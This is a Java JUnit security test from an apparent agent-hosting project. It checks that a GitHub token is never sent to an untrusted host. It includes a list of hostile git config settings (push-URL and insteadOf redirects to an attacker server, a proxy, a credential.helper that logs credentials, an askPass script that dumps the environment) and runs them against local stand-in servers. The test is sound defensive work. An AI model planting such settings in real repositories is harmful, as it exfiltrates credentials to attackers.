package dev.handoff.vmagent.git;

import static dev.handoff.vmagent.workspace.GitFixtures.gitOutput;
import static org.assertj.core.api.Assertions.assertThat;

import dev.handoff.contracts.node.NodeMessage.BranchPublishedReport;
import dev.handoff.contracts.node.NodeMessage.CreateWorkspace;
import dev.handoff.contracts.node.NodeMessage.StartAgent;
import dev.handoff.contracts.node.NodeMessage.WorkspaceReadyReport;
import dev.handoff.contracts.node.NodeSecrets;
import dev.handoff.localstack.LocalGitHttpServer;
import dev.handoff.vmagent.gateway.RecordingReportSink;
import dev.handoff.vmagent.publish.BranchPublisher;
import dev.handoff.vmagent.publish.PublishConfig;
import dev.handoff.vmagent.workspace.GitFixtures;
import dev.handoff.vmagent.workspace.WorkspaceCreator;
import dev.handoff.vmagent.workspace.WorkspacePaths;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Issue 11 item 6, tried as an attacker would, with real git and two git servers on this machine: the one the
 * workspace was cloned from (standing in for GitHub, named in the node's {@code HANDOFF_GITHUB_HOSTS}) and the
 * attacker's, which answers every request with a Basic challenge and records any Authorization header it is sent.
 * The token reaches only the configured host: not a project URL a team owner changed to their own host, not over
 * plain http unless the host is configured with http, and not wherever the workspace's own {@code .git/config}
 * (which the agent writes) points the push or its proxy.
 */
class TokenDestinationTest {

    static final String TOKEN = "ghp_canary_destination_8c41";

    @TempDir
    Path repos;
    @TempDir
    Path attackerRepos;
    @TempDir
    Path work;

    private LocalGitHttpServer github;
    private LocalGitHttpServer attacker;
    private WorkspacePaths paths;

    @BeforeEach
    void startServers() throws Exception {
        GitFixtures.bareRepositoryWithOneCommit(repos, "main");
        github = new LocalGitHttpServer(repos, TOKEN);
        attacker = new LocalGitHttpServer(attackerRepos, "whatever-the-attacker-is-sent");
        paths = new WorkspacePaths(work);
    }

    @AfterEach
    void stopServers() {
        github.close();
        attacker.close();
    }

    @Test
    void aProjectUrlOnAHostThatIsNotAConfiguredGitHubHostIsNotOfferedTheToken() throws Exception {
        var creator = new WorkspaceCreator(paths, GitFixtures.localClone(), TokenHosts.parse("github.com"));

        creator.createWorkspace(new CreateWorkspace("cmd-1", "task-1", "ws-1", attacker.url("acme/app.git"), "main",
            withToken()));

        assertThat(attacker.requests()).as("git did ask the attacker's host").isNotEmpty();
        assertThat(attacker.authorizations()).as("what the attacker's host was sent").isEmpty();
    }

    @Test
    void aConfiguredHostIsOfferedTheTokenOnlyOverHttpsUnlessConfiguredWithHttp() throws Exception {
        var httpsOnly = new WorkspaceCreator(paths, GitFixtures.localClone(), TokenHosts.parse("127.0.0.1"));
        var withHttp = new WorkspaceCreator(paths, GitFixtures.localClone(), TokenHosts.parse(origin(github)));

        httpsOnly.createWorkspace(new CreateWorkspace("cmd-1", "task-1", "ws-1", attacker.url("acme/app.git"), "main",
            withToken()));
        var ready = withHttp.createWorkspace(new CreateWorkspace("cmd-2", "task-2", "ws-2", github.url("origin.git"),
            "main", withToken()));

        assertThat(attacker.requests()).isNotEmpty();
        assertThat(attacker.authorizations()).as("plain http to a host configured without http").isEmpty();
        assertThat(ready).as(ready.toString()).isInstanceOf(WorkspaceReadyReport.class);
        assertThat(github.authorizations()).isNotEmpty();
    }

    /**
     * The agent rewrites the workspace's git config between clone and push (here the test writes it, as the agent's
     * shell would); the push still goes to the URL the workspace was cloned from, and the attacker sees no token.
     */
    @ParameterizedTest
    @ValueSource(strings = {
        "remote.origin.pushurl=ATTACKER",
        "remote.origin.url=ATTACKER",
        "url.ATTACKER.insteadOf=GITHUB",
        "url.ATTACKER.pushInsteadOf=GITHUB",
        "http.proxy=ATTACKER_ORIGIN",
        "credential.helper=!f() { cat >> HELPER_LOG; }; f",
        "core.askPass=ASKPASS",
    })
    void theWorkspacesGitConfigCannotRedirectThePushOrItsToken(String hostileSetting) throws Exception {
        Path askpass = attackerRepos.resolve("askpass.sh");
        Path helperLog = attackerRepos.resolve("helper.log");
        Path askpassLog = attackerRepos.resolve("askpass.log");
        Files.writeString(askpass, "#!/bin/sh\nenv >> " + askpassLog + "\necho " + "nope\n");
        askpass.toFile().setExecutable(true);
        TokenHosts hosts = TokenHosts.parse(origin(github));
        var creator = new WorkspaceCreator(paths, GitFixtures.localClone(), hosts);
        String url = github.url("origin.git");
        var ready = creator.createWorkspace(new CreateWorkspace("cmd-1", "task-1", "ws-1", url, "main", withToken()));
        assertThat(ready).as(ready.toString()).isInstanceOf(WorkspaceReadyReport.class);
        int cloneAuthorizations = github.authorizations().size();
        Path workspace = paths.workspace("ws-1");
        String setting = hostileSetting.replace("ATTACKER_ORIGIN", origin(attacker))
            .replace("ATTACKER", attacker.url("origin.git")).replace("GITHUB", url)
            .replace("HELPER_LOG", helperLog.toString()).replace("ASKPASS", askpass.toString());
        int equals = setting.indexOf('=');
        gitOutput(workspace, "config", setting.substring(0, equals), setting.substring(equals + 1));
        Files.writeString(workspace.resolve("fix.txt"), "fixed\n");

        BranchPublishedReport published = new BranchPublisher(paths, config(hosts), new RecordingReportSink())
            .publish(new StartAgent("cmd-2", "task-1", "ws-1", "d-1", "claude-code", "Fix it", null, null,
                withToken()));

        assertThat(attacker.authorizations()).as("what the attacker's host was sent").isEmpty();
        assertThat(attacker.requests()).as("requests to the attacker's host").isEmpty();
        assertThat(helperLog).doesNotExist();
        assertThat(askpassLog).doesNotExist();
        assertThat(published.result()).as(published.toString()).isEqualTo("pushed");
        assertThat(gitOutput(repos.resolve("origin.git"), "show", published.branch() + ":fix.txt")).isEqualTo("fixed");
        assertThat(github.authorizations().size()).isGreaterThan(cloneAuthorizations);
    }

    private static PublishConfig config(TokenHosts hosts) {
        PublishConfig defaults = PublishConfig.defaults();
        return new PublishConfig(URI.create("http://127.0.0.1:9"), hosts, defaults.authorName(),
            defaults.authorEmail(), defaults.gitTimeout());
    }

    /** {@code http://127.0.0.1:<port>} of a server. */
    private static String origin(LocalGitHttpServer server) {
        URI uri = URI.create(server.url(""));
        return uri.getScheme() + "://" + uri.getHost() + ":" + uri.getPort();
    }

    private static NodeSecrets withToken() {
        return new NodeSecrets(Map.of(NodeSecrets.GITHUB_TOKEN, TOKEN));
    }
}
